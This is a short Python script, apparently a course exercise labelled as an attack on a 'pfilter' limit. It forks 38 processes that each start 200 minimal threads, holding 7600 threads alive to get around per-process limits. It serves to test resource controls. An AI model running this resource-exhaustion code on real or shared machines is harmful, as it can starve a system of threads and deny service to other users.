"""Starts threads in every process that it may have, each process far below its own limit."""
# attack: week=11 exercise=pfilter
import ctypes
import os
import select

libc = ctypes.CDLL(None)
attributes = ctypes.create_string_buffer(64)
libc.pthread_attr_init(attributes)
libc.pthread_attr_setstacksize(attributes, ctypes.c_size_t(16 << 10))
thread = ctypes.c_ulong()
ours, theirs = os.pipe()
for _ in range(38):
    if os.fork() == 0:
        for _ in range(200):
            libc.pthread_create(ctypes.byref(thread), attributes, libc.pause, None)
        os.write(theirs, b"!")
        select.poll().poll(60_000)
for _ in range(38):
    os.read(ours, 1)
print("SURPRISE: 7600 threads are alive")
